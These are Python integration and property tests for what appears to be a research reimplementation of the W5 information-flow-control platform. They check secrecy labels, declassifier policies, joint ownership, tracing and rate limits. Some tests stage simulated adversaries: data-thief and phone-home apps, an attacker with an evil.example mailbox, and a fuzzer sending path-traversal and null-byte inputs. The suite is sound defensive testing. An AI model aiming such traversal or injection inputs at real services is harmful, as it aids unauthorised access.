        # --- traffic: a mixed trace served correctly ------------------
        trace = make_trace(world.users, 60, seed=3)
        for request in trace:
            path, params = request.path_and_params()
            w5.client(request.viewer).get(path, **params)

        # --- adversaries: thief, hog, phone-home ----------------------
        victim = world.users[0]
        for app in ("data-thief", "phone-home", "resource-hog"):
            w5.provider.enable_app(victim, app)
        mallory = w5.add_user("mallory")
        mallory.get("/app/data-thief/go", victim=victim)
        mallory.get("/app/phone-home/go", victim=victim)
        mallory.get("/app/resource-hog/go", spins=10_000)

        # --- policy composition: friends AND embargo ------------------
        composer = world.users[1]
        w5.provider.revoke_declassifier(composer)
        w5.provider.grant_declassifier(
            composer, AllOf(
                FriendsOnly({"friends": world.friend_list(composer)}),
                TimeEmbargo({"release_at": 50.0})))
        friend = world.friend_list(composer)[0]
        r = w5.client(friend).get("/app/photo-share/list", owner=composer)
        assert r.status == 403           # embargo still active
        w5.provider.declass.now = 60.0
        r = w5.client(friend).get("/app/photo-share/list", owner=composer)
        assert r.ok                      # both conditions met

        # --- restart: snapshot, restore, re-auth ----------------------
        blob = json.dumps(snapshot_provider(w5.provider))
        restored, report = restore_provider(
            json.loads(blob),
            app_catalog=list(STANDARD_CATALOG) + list(ADVERSARIAL_CATALOG))
        assert report["missing_apps"] == []
        set_password(restored, victim, "fresh")
        from repro.net import ExternalClient
        back = ExternalClient(victim, restored.transport())
        back.login("fresh")
        assert back.get("/app/photo-share/list").ok

        # --- federation: mirror the victim to a peer ------------------
        peer = Provider(name="w5-peer")
        peer.signup(victim, "pw")
        link = ProviderLink(restored, peer)
        link.link_account(victim)
        link.grant_sync(victim)
        link.sync_user(victim)
        assert peer.read_user_data(victim, "secret.txt") \
            == SECRET_PREFIX + victim
        snoop = peer.kernel.spawn_trusted("snoop")
        from repro.fs import FsView
        from repro.labels import SecrecyViolation
        with pytest.raises(SecrecyViolation):
            FsView(peer.fs, snoop).read(f"/users/{victim}/secret.txt")

        # --- the verdicts ---------------------------------------------
        # 1. no secret ever reached anyone but its owner's audience
        for user in world.users:
            secret = SECRET_PREFIX + user
            holders = [name for name in [*world.users, "mallory"]
                       if name != user
                       and w5.client(name).ever_received(secret)]
            allowed = set(world.friend_list(user))
            assert set(holders) <= allowed, (user, holders)
        # 2. mallory specifically got nothing
        assert not any(mallory.ever_received(SECRET_PREFIX + u)
                       for u in world.users)
        # 3. mallory's mail server stayed empty
        assert w5.provider.email.mailbox(
            "mallory@evil.example").messages == []
        # 4. the hog was throttled
        assert w5.resources.denial_count("syscalls") >= 1
        # 5. the system was busy and the audit log saw it all
        assert metrics.count("export") > 50
        assert metrics.count("export", allowed=False) >= 1
