"""Integration tests: the W5System facade end to end."""

import pytest

from repro import W5System
from repro.workloads import make_social_world


class TestFacadeBasics:
    def test_add_user_and_client(self):
        w5 = W5System()
        bob = w5.add_user("bob", apps=["blog"])
        assert bob.logged_in()
        assert w5.client("bob") is bob

    def test_quickstart_scenario(self):
        """The README quickstart, verified."""
        w5 = W5System()
        bob = w5.add_user("bob", apps=["photo-share"], friends=["amy"])
        amy = w5.add_user("amy", apps=["photo-share"], friends=["bob"])
        bob.get("/app/photo-share/upload", filename="x.jpg", data="<jpeg>")
        r = amy.get("/app/photo-share/view", owner="bob", filename="x.jpg")
        assert r.body["data"] == "<jpeg>"

    def test_befriend_updates_both_layers(self):
        w5 = W5System()
        w5.add_user("bob", apps=["social", "blog"])
        w5.add_user("amy", apps=["social", "blog"])
        w5.befriend("bob", "amy")
        # app layer
        assert w5.client("bob").get(
            "/app/social/friends").body["friends"] == ["amy"]
        # policy layer: amy may now receive bob's data
        amy_auth = w5.provider._authority_for("amy")
        assert amy_auth.can_remove(w5.provider.account("bob").data_tag)

    def test_leak_check(self):
        w5 = W5System()
        bob = w5.add_user("bob", apps=["blog"])
        bob.get("/app/blog/post", title="t", body="FINDME")
        bob.get("/app/blog/read", title="t")
        report = w5.leak_check("FINDME", "MISSING")
        assert report["FINDME"] == ["bob"]
        assert report["MISSING"] == []

    def test_anonymous_client_public_root(self):
        w5 = W5System()
        anon = w5.anonymous_client()
        r = anon.get("/")
        assert r.ok and "photo-share" in r.body["apps"]

    def test_code_search_over_catalog(self):
        w5 = W5System()
        bob = w5.add_user("bob", apps=["photo-share"])
        bob.get("/app/photo-share/upload", filename="x.jpg", data="d")
        bob.get("/app/photo-share/crop", filename="x.jpg")
        ranked = w5.code_search(k=30)
        assert "crop-basic" in ranked  # usage edge observed


class TestWorldLoading:
    def test_load_world_populates_everything(self):
        w5 = W5System()
        world = make_social_world(n_users=6, photos_per_user=1,
                                  posts_per_user=1)
        w5.load_world(world)
        user = world.users[0]
        client = w5.client(user)
        photos = client.get("/app/photo-share/list").body["photos"]
        assert len(photos) == 1
        titles = client.get("/app/blog/list").body["titles"]
        assert len(titles) == 1

    def test_friends_can_browse_loaded_world(self):
        w5 = W5System()
        world = make_social_world(n_users=6, photos_per_user=1, seed=9)
        w5.load_world(world)
        user = world.users[0]
        friends = world.friend_list(user)
        assert friends
        friend = friends[0]
        r = w5.client(friend).get("/app/photo-share/list", owner=user)
        assert r.ok and len(r.body["photos"]) == 1

    def test_strangers_blocked_in_loaded_world(self):
        w5 = W5System()
        world = make_social_world(n_users=8, photos_per_user=1, seed=9)
        w5.load_world(world)
        user = world.users[0]
        strangers = [u for u in world.users
                     if u != user and not world.are_friends(user, u)]
        assert strangers
        secret = world.photos[user][0]["bytes"]
        r = w5.client(strangers[0]).get("/app/photo-share/view",
                                        owner=user,
                                        filename=world.photos[user][0]
                                        ["filename"])
        assert r.status in (403, 500)
        assert not w5.client(strangers[0]).ever_received(secret)


class TestQuotasThroughFacade:
    def test_quota_override_throttles_one_app(self):
        w5 = W5System(
            with_adversaries=True,
            quota_overrides={"app:resource-hog": {"syscalls": 50}})
        eve = w5.add_user("eve", apps=["resource-hog"])
        r = eve.get("/app/resource-hog/go", spins=10_000)
        # the hog was cut off mid-spin (LabelError/KernelError → 4xx/5xx)
        assert r.status in (403, 500)
        assert w5.resources.denial_count("syscalls") >= 1

    def test_honest_apps_unaffected_by_override(self):
        w5 = W5System(
            with_adversaries=True,
            quota_overrides={"app:resource-hog": {"syscalls": 10}})
        bob = w5.add_user("bob", apps=["blog"])
        bob.get("/app/blog/post", title="t", body="b")
        assert bob.get("/app/blog/read", title="t").ok
