"""The oracle and the mechanism agree.

The gateway decides exports with a fast-path oracle
(:meth:`DeclassificationService.authority_for`); the paper's actual
mechanism is a *declassifier process* holding ``t-`` and pumping data
through its endpoints (:class:`KernelDeclassifier`).  If the two ever
disagreed, the audit story would describe a different system than the
one enforced.  This property test drives both with the same random
policies and viewers and requires identical verdicts.
"""

from hypothesis import given, settings
from hypothesis import strategies as st

from repro.declassify import (DeclassificationService, FriendsOnly, Group,
                              KernelDeclassifier, Public, ReleaseRefused,
                              TimeEmbargo)
from repro.kernel import Kernel, RECV, SEND
from repro.labels import Label

USERS = ["bob", "amy", "carl", None]


def build_policy(kind, config_users, release_at):
    if kind == "public":
        return Public()
    if kind == "friends":
        return FriendsOnly({"friends": config_users})
    if kind == "group":
        return Group({"members": config_users})
    return TimeEmbargo({"release_at": release_at})


policy_spec = st.tuples(
    st.sampled_from(["public", "friends", "group", "embargo"]),
    st.lists(st.sampled_from([u for u in USERS if u]), max_size=2),
    st.floats(min_value=0, max_value=200))


class TestOracleMatchesMechanism:
    @settings(max_examples=80, deadline=None)
    @given(policy_spec, st.sampled_from(USERS),
           st.floats(min_value=0, max_value=200))
    def test_pump_succeeds_iff_oracle_approves(self, spec, viewer, clock):
        kind, config_users, release_at = spec
        policy = build_policy(kind, config_users, release_at)

        # --- the oracle's answer -----------------------------------
        kernel = Kernel()
        svc = DeclassificationService(kernel)
        svc.now = clock
        root = kernel.spawn_trusted("root")
        tag = kernel.create_tag(root, purpose="bob-data",
                                tag_owner="bob")
        svc.grant("bob", tag, policy)
        oracle_says = svc.authority_for(viewer).can_remove(tag)

        # --- the mechanism's answer --------------------------------
        producer = kernel.spawn_trusted("app", slabel=Label([tag]))
        out = kernel.create_endpoint(producer, direction=SEND)
        consumer = kernel.spawn_trusted("renderer")
        inbox = kernel.create_endpoint(consumer, direction=RECV)
        declas = KernelDeclassifier(kernel, tag,
                                    build_policy(kind, config_users,
                                                 release_at),
                                    owner="bob", clock=lambda: clock)
        kernel.send(producer, out, declas.inbox, "payload")
        try:
            declas.pump(viewer, inbox)
            mechanism_says = True
        except ReleaseRefused:
            mechanism_says = False

        assert oracle_says == mechanism_says, (
            f"oracle={oracle_says} mechanism={mechanism_says} for "
            f"{kind} config={config_users} viewer={viewer} t={clock}")

    @settings(max_examples=40, deadline=None)
    @given(policy_spec, st.sampled_from(USERS))
    def test_mechanism_delivery_reaches_consumer_exactly_on_approval(
            self, spec, viewer):
        kind, config_users, release_at = spec
        kernel = Kernel()
        root = kernel.spawn_trusted("root")
        tag = kernel.create_tag(root, purpose="bob", tag_owner="bob")
        producer = kernel.spawn_trusted("app", slabel=Label([tag]))
        out = kernel.create_endpoint(producer, direction=SEND)
        consumer = kernel.spawn_trusted("renderer")
        inbox = kernel.create_endpoint(consumer, direction=RECV)
        declas = KernelDeclassifier(
            kernel, tag, build_policy(kind, config_users, release_at),
            owner="bob", clock=lambda: 150.0)
        kernel.send(producer, out, declas.inbox, "payload")
        try:
            declas.pump(viewer, inbox)
            delivered = kernel.pending(consumer) == 1
            approved = True
        except ReleaseRefused:
            delivered = kernel.pending(consumer) == 0
            approved = False
        # delivery happens exactly when approved; never half-way
        assert delivered, f"approved={approved} but queue inconsistent"
