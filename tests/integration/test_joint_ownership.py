"""Joint ownership: data tagged with TWO users' tags.

The paper's commingling story implies data that belongs to several
people at once (a photo of bob and amy together).  In DIFC that is
just a two-tag label, and everything composes: reading needs both
taints, writing needs both write privileges, and export needs BOTH
owners' declassifiers to approve the viewer.
"""

import pytest

from repro import W5System
from repro.fs import FsView
from repro.labels import (CapabilitySet, IntegrityViolation, Label,
                          SecrecyViolation)


@pytest.fixture()
def world():
    w5 = W5System()
    bob = w5.add_user("bob", apps=["photo-share"], friends=["amy", "carl"])
    amy = w5.add_user("amy", apps=["photo-share"], friends=["bob"])
    carl = w5.add_user("carl", apps=["photo-share"], friends=["bob"])
    p = w5.provider
    acc_bob, acc_amy = p.account("bob"), p.account("amy")
    # a trusted agent holding both users' authority stores the joint photo
    agent = p.kernel.spawn_trusted(
        "joint-agent",
        slabel=Label([acc_bob.data_tag, acc_amy.data_tag]),
        ilabel=Label([acc_bob.write_tag, acc_amy.write_tag]),
        caps=CapabilitySet.owning(acc_bob.data_tag, acc_amy.data_tag,
                                  acc_bob.write_tag, acc_amy.write_tag))
    agent_fs = FsView(p.fs, agent)
    agent_fs.mkdir("/users/bob/photos",
                   slabel=Label([acc_bob.data_tag]),
                   ilabel=Label([acc_bob.write_tag]))
    agent_fs.create(
        "/users/bob/photos/joint.jpg", "<bob+amy at the party>",
        slabel=Label([acc_bob.data_tag, acc_amy.data_tag]),
        ilabel=Label([acc_bob.write_tag, acc_amy.write_tag]))
    p.kernel.exit(agent)
    return w5


class TestJointLabels:
    def test_single_taint_cannot_read(self, world):
        p = world.provider
        only_bob = p.kernel.spawn_trusted(
            "r", slabel=Label([p.account("bob").data_tag]))
        with pytest.raises(SecrecyViolation):
            FsView(p.fs, only_bob).read("/users/bob/photos/joint.jpg")

    def test_double_taint_reads(self, world):
        p = world.provider
        both = p.kernel.spawn_trusted(
            "r", slabel=Label([p.account("bob").data_tag,
                               p.account("amy").data_tag]))
        assert FsView(p.fs, both).read("/users/bob/photos/joint.jpg") \
            == "<bob+amy at the party>"

    def test_single_write_privilege_cannot_modify(self, world):
        from repro.labels import plus
        p = world.provider
        both_read = Label([p.account("bob").data_tag,
                           p.account("amy").data_tag])
        half_writer = p.kernel.spawn_trusted(
            "w", slabel=both_read,
            caps=CapabilitySet([plus(p.account("bob").write_tag)]))
        with pytest.raises(IntegrityViolation):
            FsView(p.fs, half_writer).write("/users/bob/photos/joint.jpg",
                                            "cropped")

    def test_export_needs_both_owners_consent(self, world):
        """carl is bob's friend but not amy's: the joint photo must
        not reach him; amy's friend-of-both... nobody but bob and amy
        themselves qualify here."""
        p = world.provider
        joint = Label([p.account("bob").data_tag,
                       p.account("amy").data_tag])
        from repro.net import ExportViolation
        # carl: approved by bob's declassifier only
        with pytest.raises(ExportViolation):
            p.gateway.export_check(joint, "carl")
        # amy: her own tag + bob's friends-only grant covers bob's tag
        p.gateway.export_check(joint, "amy")
        # bob: symmetric
        p.gateway.export_check(joint, "bob")

    def test_app_pipeline_respects_joint_label(self, world):
        carl = world.client("carl")
        r = carl.get("/app/photo-share/view", owner="bob",
                     filename="joint.jpg")
        assert r.status in (403, 500)
        assert not carl.ever_received("<bob+amy at the party>")
        amy = world.client("amy")
        r = amy.get("/app/photo-share/view", owner="bob",
                    filename="joint.jpg")
        # amy must first taint with bob's tag (enabled app) AND may
        # receive the result (both declassifiers approve her)
        assert r.ok
        assert r.body["data"] == "<bob+amy at the party>"
