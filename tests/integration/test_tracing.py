"""End-to-end request tracing through the full W5 stack.

The M11 acceptance criteria, as tests: a traced ``handle_request``
yields a span tree covering gateway → kernel → app → db/fs → egress,
audit events recorded inside the request carry the trace id, the
Chrome export validates, and with tracing off nothing is recorded.
"""

import json

import pytest

from repro import W5System
from repro.obs import chrome_trace, render_text, trace_to_dict, \
    validate_chrome_trace


@pytest.fixture()
def traced():
    w5 = W5System(tracing=True)
    # detail spans (gateway.admission, kernel.checkout) ride the
    # 1-in-fold_every trace sampling; pin it to "every trace" so the
    # coverage assertions below see the fully annotated tree
    w5.provider.tracer.fold_every = 1
    w5.add_user("bob", apps=["blog", "photo-share"])
    return w5


def _span_names(trace):
    return {s.name for s in trace.walk()}


class TestSpanTreeCoverage:
    def test_request_covers_every_layer(self, traced):
        bob = traced.client("bob")
        bob.get("/app/blog/post", title="t", body="hello")
        rec = traced.provider.recorder
        trace = next(t for t in rec.traces()
                     if "/app/blog/post" in t.name)
        names = _span_names(trace)
        # gateway edge (authenticate + admit share one admission span)
        assert "gateway.admission" in names
        assert "gateway.egress" in names
        # kernel + app + data plane
        assert "kernel.checkout" in names
        assert "app.run" in names
        assert "db.insert" in names or "db.update" in names
        # root is the request line
        assert trace.root.name == "GET /app/blog/post"
        assert trace.root.attrs["status"] == 200

    def test_fs_spans_on_file_paths(self, traced):
        traced.client("bob").get("/app/photo-share/upload",
                                 filename="x.jpg", data="<jpeg>")
        trace = next(t for t in traced.provider.recorder.traces()
                     if "upload" in t.name)
        names = _span_names(trace)
        assert "fs.write" in names or "fs.create" in names

    def test_every_request_finishes_its_trace(self, traced):
        bob = traced.client("bob")
        for _ in range(3):
            bob.get("/app/blog/list")
        stats = traced.provider.tracer.stats()
        assert stats["traces_started"] == stats["traces_finished"]
        assert stats["spans_dropped"] == 0


class TestAuditCorrelation:
    def test_in_request_audit_events_carry_trace_id(self, traced):
        bob = traced.client("bob")
        bob.get("/app/blog/post", title="t", body="b")
        trace = next(t for t in traced.provider.recorder.traces()
                     if "/app/blog/post" in t.name)
        correlated = [e for e in traced.audit()
                      if e.extra.get("trace_id") == trace.trace_id]
        assert correlated, "no audit events correlated with the trace"
        span_ids = {s.span_id for s in trace.walk()}
        for e in correlated:
            assert e.extra["span_id"] in span_ids
        # the export decision in particular must be attributable
        cats = {e.category for e in correlated}
        assert "export" in cats

    def test_indexed_audit_query_sees_stamped_events(self, traced):
        traced.client("bob").get("/app/blog/list")
        exports = traced.audit().events(category="export")
        assert exports
        assert all("trace_id" in e.extra for e in exports)


class TestErrorTraces:
    def test_denied_request_is_kept_as_error(self, traced):
        traced.client("bob").get("/app/photo-share/upload",
                                 filename="p.jpg", data="secret")
        # eve is not bob's friend: viewing bob's photo is an export
        # violation -> 403 -> error trace in the recorder
        traced.add_user("eve", apps=["photo-share"])
        r = traced.client("eve").get("/app/photo-share/view",
                                     owner="bob", filename="p.jpg")
        assert r.status == 403
        errors = traced.provider.recorder.errors()
        assert any("/app/photo-share/view" in t.name for t in errors)
        denied = next(t for t in errors
                      if "/app/photo-share/view" in t.name)
        assert denied.error
        assert denied.root.attrs["status"] == 403


class TestExportAndReport:
    def test_chrome_export_validates(self, traced):
        bob = traced.client("bob")
        bob.get("/app/blog/post", title="t", body="b")
        bob.get("/app/blog/read", title="t")
        docs = [trace_to_dict(t)
                for t in traced.provider.recorder.traces()]
        doc = chrome_trace(docs)
        assert validate_chrome_trace(doc) is None
        json.dumps(doc)  # serializable as-is

    def test_text_render_of_live_trace(self, traced):
        traced.client("bob").get("/app/blog/list")
        trace = traced.provider.recorder.traces()[0]
        text = render_text(trace_to_dict(trace))
        assert "gateway.admission" in text

    def test_trace_report_shape(self, traced):
        traced.client("bob").get("/app/blog/list")
        report = traced.trace_report()
        assert report["tracing"] is True
        assert report["stats"]["traces_finished"] >= 1
        lat = report["latencies"]
        assert "gateway.admission" in lat
        assert "p95_us" in lat["gateway.admission"]
        assert report["recorder"]["stats"]["offered"] >= 1
        json.dumps(report)


class TestDetailSampling:
    def test_unsampled_traces_keep_the_structural_skeleton(self):
        w5 = W5System(tracing=True)  # default fold_every (16)
        w5.add_user("bob", apps=["blog"])
        bob = w5.client("bob")
        for _ in range(4):
            bob.get("/app/blog/list")
        skeleton = [t for t in w5.provider.recorder.traces()
                    if int(t.trace_id, 16) % 16 != 1
                    and "/app/blog/list" in t.name]
        assert skeleton, "no unsampled trace retained"
        names = _span_names(skeleton[0])
        # the root span (request envelope) is always present...
        assert skeleton[0].name in names
        # ...hot-path detail spans only on sampled traces
        assert "app.run" not in names
        assert "gateway.admission" not in names
        assert "gateway.egress" not in names
        assert "kernel.checkout" not in names


class TestDisabledPath:
    def test_default_provider_records_nothing(self):
        w5 = W5System()  # tracing off
        w5.add_user("bob", apps=["blog"])
        w5.client("bob").get("/app/blog/list")
        assert w5.provider.recorder is None
        assert not w5.provider.tracer.enabled
        assert w5.trace_report() == {"tracing": False}
        # no trace ids leak into the audit log
        assert all("trace_id" not in e.extra for e in w5.audit())


class TestFlowLatencyPercentiles:
    def test_existing_keys_plus_percentiles(self):
        from repro.core import Metrics
        w5 = W5System()
        metrics = Metrics(w5.audit()).attach_flow_cache(
            w5.provider.kernel.flow_cache)
        w5.add_user("bob", apps=["blog"])
        w5.client("bob").get("/app/blog/list")
        lat = metrics.flow_latency()
        assert lat, "no flow checks observed"
        for stats in lat.values():
            # historical _LatencyStat keys, unchanged
            assert {"count", "total_s", "mean_us", "min_us",
                    "max_us"} <= set(stats)
            # new histogram-estimated percentile keys
            assert {"p50_us", "p95_us", "p99_us"} <= set(stats)
            assert stats["min_us"] <= stats["p50_us"] <= stats["max_us"]
