"""Regression tests: storage never hands out mutable references.

Found via the group read-only-member scenario: ``fs.read`` used to
return the stored object itself, so a reader could ``append`` to a
stored list in place and the mutation stuck even though its ``write``
was later refused — write protection bypassed without a single failed
check.  These tests pin the fix (defensive deep copies at the fs/db
boundary) in both directions: reads don't alias storage, and storage
doesn't alias caller objects.
"""

import pytest

from repro.db import LabeledStore
from repro.fs import LabeledFileSystem
from repro.kernel import Kernel
from repro.labels import CapabilitySet, IntegrityViolation, Label, plus


@pytest.fixture()
def kernel():
    return Kernel()


class TestFsAliasing:
    def test_read_does_not_alias_storage(self, kernel):
        fs = LabeledFileSystem(kernel)
        root = kernel.spawn_trusted("root")
        w = kernel.create_tag(root, kind="integrity")
        owner = kernel.spawn_trusted("owner",
                                     caps=CapabilitySet([plus(w)]))
        fs.create(owner, "/board", ["original"], ilabel=Label([w]))
        # a read-only process mutates its copy in place
        reader = kernel.spawn_trusted("reader")
        board = fs.read(reader, "/board")
        board.append("VANDALISM")
        # its write is refused AND storage is untouched
        with pytest.raises(IntegrityViolation):
            fs.write(reader, "/board", board)
        assert fs.read(owner, "/board") == ["original"]

    def test_create_does_not_alias_caller_object(self, kernel):
        fs = LabeledFileSystem(kernel)
        p = kernel.spawn_trusted("p")
        payload = {"k": ["a"]}
        fs.create(p, "/f", payload)
        payload["k"].append("b")  # caller keeps mutating their object
        assert fs.read(p, "/f") == {"k": ["a"]}

    def test_write_does_not_alias_caller_object(self, kernel):
        fs = LabeledFileSystem(kernel)
        p = kernel.spawn_trusted("p")
        fs.create(p, "/f", [])
        data = [1]
        fs.write(p, "/f", data)
        data.append(2)
        assert fs.read(p, "/f") == [1]


class TestDbAliasing:
    def test_select_does_not_alias_nested_values(self, kernel):
        store = LabeledStore(kernel)
        p = kernel.spawn_trusted("p")
        store.create_table(p, "t")
        store.insert(p, "t", {"items": ["a"]})
        rows = store.select(p, "t")
        rows[0]["items"].append("INJECTED")
        assert store.select(p, "t")[0]["items"] == ["a"]

    def test_insert_does_not_alias_caller_dict(self, kernel):
        store = LabeledStore(kernel)
        p = kernel.spawn_trusted("p")
        store.create_table(p, "t")
        values = {"items": ["a"]}
        store.insert(p, "t", values)
        values["items"].append("b")
        assert store.select(p, "t")[0]["items"] == ["a"]

    def test_update_does_not_alias_changes(self, kernel):
        store = LabeledStore(kernel)
        p = kernel.spawn_trusted("p")
        store.create_table(p, "t")
        store.insert(p, "t", {"x": 1})
        changes = {"blob": ["v1"]}
        store.update(p, "t", changes=changes)
        changes["blob"].append("v2")
        assert store.select(p, "t")[0]["blob"] == ["v1"]
