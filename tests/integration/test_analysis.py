"""Tests for the benchmark-report analysis module."""

import json

import pytest

from repro.analysis import (BenchRow, markdown_table, overhead_factors,
                            parse_benchmark_json, render_report)


def fake_bench(name, median, rounds=10):
    return {"name": name,
            "stats": {"median": median, "mean": median * 1.1,
                      "stddev": median * 0.1, "rounds": rounds}}


FAKE = {"benchmarks": [
    fake_bench("test_bench_m2_w5_request", 9e-5),
    fake_bench("test_bench_m2_unprotected_handler", 1.6e-7),
    fake_bench("test_bench_m2_static_route", 1.5e-5),
    fake_bench("test_bench_m4_send_receive[0]", 1e-5),
    fake_bench("test_bench_m4_unmonitored_baseline", 9e-8),
    fake_bench("test_bench_c1_theft", 7e-3),
    fake_bench("test_bench_a1_floating_labels", 2e-2),
]}


class TestParsing:
    def test_rows_parsed_and_sorted(self):
        rows = parse_benchmark_json(FAKE)
        assert len(rows) == 7
        groups = [r.group for r in rows]
        assert groups == sorted(groups)

    def test_group_extraction(self):
        rows = {r.name: r.group for r in parse_benchmark_json(FAKE)}
        assert rows["test_bench_m2_w5_request"] == "M2"
        assert rows["test_bench_c1_theft"] == "C1"
        assert rows["test_bench_a1_floating_labels"] == "A1"
        assert rows["test_bench_m4_send_receive[0]"] == "M4"

    def test_empty_input(self):
        assert parse_benchmark_json({}) == []


class TestRendering:
    def test_human_median_units(self):
        assert BenchRow("x", "M1", 5e-8, 0, 0, 1).human_median() \
            == "50 ns"
        assert BenchRow("x", "M1", 5e-6, 0, 0, 1).human_median() \
            == "5.0 µs"
        assert BenchRow("x", "M1", 5e-3, 0, 0, 1).human_median() \
            == "5.00 ms"
        assert BenchRow("x", "M1", 5.0, 0, 0, 1).human_median() \
            == "5.00 s"

    def test_markdown_table_shape(self):
        table = markdown_table(parse_benchmark_json(FAKE))
        lines = table.splitlines()
        assert lines[0].startswith("| experiment |")
        assert len(lines) == 2 + 7

    def test_overhead_factors(self):
        factors = overhead_factors(parse_benchmark_json(FAKE))
        assert factors["request_vs_bare"] == pytest.approx(9e-5 / 1.6e-7)
        assert factors["request_vs_static"] == pytest.approx(6.0)
        assert factors["ipc_vs_bare"] == pytest.approx(1e-5 / 9e-8)

    def test_render_report_end_to_end(self, tmp_path):
        path = tmp_path / "bench.json"
        path.write_text(json.dumps(FAKE))
        report = render_report(str(path))
        assert "# Benchmark timing report" in report
        assert "Overhead factors" in report
        assert "m2_w5_request" in report


class TestAgainstRealBenchRun:
    def test_parses_actual_pytest_benchmark_output(self, tmp_path):
        """Run one tiny real bench with JSON output and parse it."""
        import subprocess
        import sys
        out = tmp_path / "real.json"
        result = subprocess.run(
            [sys.executable, "-m", "pytest",
             "benchmarks/test_bench_m1_labels.py::test_bench_m1_full_check",
             "--benchmark-only", f"--benchmark-json={out}", "-q",
             "-p", "no:cacheprovider"],
            capture_output=True, text=True, timeout=120)
        assert result.returncode == 0, result.stdout + result.stderr
        rows = parse_benchmark_json(json.loads(out.read_text()))
        assert len(rows) == 1
        assert rows[0].group == "M1"
        assert rows[0].median_s > 0
