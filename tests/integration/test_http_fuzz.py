"""Property tests: the HTTP front door never melts down or leaks.

Random (often garbage) paths, params, and cookies against a loaded
provider.  Invariants:

* every request yields a structured HttpResponse with a known status;
* no response body ever contains a traceback or internal exception
  text;
* no response to an unauthenticated or wrong-user request ever
  contains the planted secret.
"""

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from repro import W5System
from repro.net import HttpRequest

SECRET = "PLANTED-SECRET-0xBEEF"

KNOWN_STATUSES = {200, 400, 403, 404, 429, 500}


def build_target():
    w5 = W5System(with_adversaries=True)
    bob = w5.add_user("bob", apps=["blog", "photo-share", "data-thief"])
    bob.get("/app/blog/post", title="t", body=SECRET)
    w5.provider.store_user_data("bob", "diary.txt", SECRET)
    return w5


_TARGET = build_target()


path_segments = st.lists(
    st.one_of(
        st.sampled_from(["app", "policy", "login", "signup", "search",
                         "blog", "photo-share", "data-thief", "read",
                         "view", "go", "..", "", "%00", "\x00", "a" * 200]),
        st.text(max_size=12)),
    max_size=5)

params = st.dictionaries(
    st.sampled_from(["title", "author", "owner", "victim", "filename",
                     "username", "password", "app", "q", "k", "note"]),
    st.one_of(st.text(max_size=20), st.integers(), st.none(),
              st.sampled_from(["bob", "t", "diary.txt", "-1", "1e309"])),
    max_size=5)

cookies = st.dictionaries(
    st.sampled_from(["w5_session", "junk"]),
    st.text(max_size=24), max_size=2)


class TestHttpFuzz:
    @settings(max_examples=150, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(path_segments, params, cookies,
           st.sampled_from(["GET", "POST", "PUT", ""]))
    def test_front_door_is_total_and_tight(self, segments, query,
                                           jar, method):
        path = "/" + "/".join(segments)
        request = HttpRequest(method=method or "GET", path=path,
                              params=dict(query), cookies=dict(jar))
        response = _TARGET.provider.handle_request(request)
        assert response.status in KNOWN_STATUSES
        body_text = repr(response.body)
        assert "Traceback" not in body_text
        assert SECRET not in body_text

    @settings(max_examples=60, deadline=None,
              suppress_health_check=[HealthCheck.too_slow])
    @given(params)
    def test_thief_app_never_leaks_to_fuzzer(self, query):
        """Even aiming the thief app directly with fuzzy params."""
        request = HttpRequest(method="GET", path="/app/data-thief/go",
                              params={**dict(query), "victim": "bob"})
        response = _TARGET.provider.handle_request(request)
        assert SECRET not in repr(response.body)
