"""Tests for gateway rate limiting and the metrics aggregator."""

import pytest

from repro.core import Metrics
from repro.kernel import AuditLog
from repro.net import ExternalClient
from repro.platform import AppModule, Provider


def echo(ctx):
    return {"ok": True}


class TestRateLimiting:
    def _provider(self, limit):
        p = Provider(rate_limit=limit)
        p.register_app(AppModule("echo", "dev", echo))
        p.signup("bob", "pw")
        p.enable_app("bob", "echo")
        return p

    def test_within_limit_unaffected(self):
        p = self._provider(limit=50)
        bob = ExternalClient("bob", p.transport())
        bob.login("pw")
        for __ in range(10):
            assert bob.get("/app/echo/go").ok

    def test_over_limit_gets_429(self):
        p = self._provider(limit=5)
        bob = ExternalClient("bob", p.transport())
        bob.login("pw")
        statuses = [bob.get("/app/echo/go").status for __ in range(10)]
        assert statuses.count(429) >= 4
        assert p.gateway.rate_limited >= 4

    def test_limit_is_per_principal(self):
        p = self._provider(limit=5)
        p.signup("amy", "pw")
        p.enable_app("amy", "echo")
        bob = ExternalClient("bob", p.transport())
        bob.login("pw")
        amy = ExternalClient("amy", p.transport())
        amy.login("pw")
        for __ in range(7):
            bob.get("/app/echo/go")
        # bob is throttled; amy is untouched
        assert bob.get("/app/echo/go").status == 429
        assert amy.get("/app/echo/go").ok

    def test_window_resets(self):
        p = self._provider(limit=3)
        p.gateway.rate_window = 10
        bob = ExternalClient("bob", p.transport())
        bob.login("pw")
        for __ in range(9):
            bob.get("/app/echo/go")
        # crossing the window boundary clears the buckets
        results = [bob.get("/app/echo/go").status for __ in range(4)]
        assert 200 in results

    def test_no_limit_by_default(self):
        p = self._provider(limit=None)
        bob = ExternalClient("bob", p.transport())
        bob.login("pw")
        assert all(bob.get("/app/echo/go").ok for __ in range(50))

    def test_anonymous_shares_a_bucket(self):
        p = self._provider(limit=5)
        a = ExternalClient("x", p.transport())
        b = ExternalClient("y", p.transport())
        for __ in range(3):
            a.get("/")
            b.get("/")
        assert b.get("/").status == 429


class TestMetrics:
    def test_counts_existing_and_new_events(self):
        log = AuditLog()
        log.record("send", True, "a", "pre-existing")
        metrics = Metrics(log)
        log.record("send", False, "a", "after-attach")
        assert metrics.count("send") == 2
        assert metrics.count("send", allowed=False) == 1

    def test_denial_rate(self):
        log = AuditLog()
        metrics = Metrics(log)
        assert metrics.denial_rate("export") == 0.0
        log.record("export", True, "gw", "x")
        log.record("export", False, "gw", "y")
        assert metrics.denial_rate("export") == 0.5

    def test_busiest_and_most_denied(self):
        log = AuditLog()
        metrics = Metrics(log)
        for __ in range(5):
            log.record("send", True, "chatty", "x")
        log.record("send", False, "shady", "y")
        assert metrics.busiest_subjects(1)[0][0] == "chatty"
        assert metrics.top_denied_subjects(1)[0] == ("shady", 1)

    def test_snapshot_keys(self):
        log = AuditLog()
        metrics = Metrics(log)
        log.record("export", True, "gw", "x")
        log.record("export", False, "gw", "y")
        snap = metrics.snapshot()
        assert snap == {"export.allow": 1, "export.deny": 1}

    def test_live_on_a_real_provider(self):
        from repro import W5System
        w5 = W5System()
        metrics = Metrics(w5.audit())
        bob = w5.add_user("bob", apps=["blog"])
        eve = w5.add_user("eve", apps=["blog"])
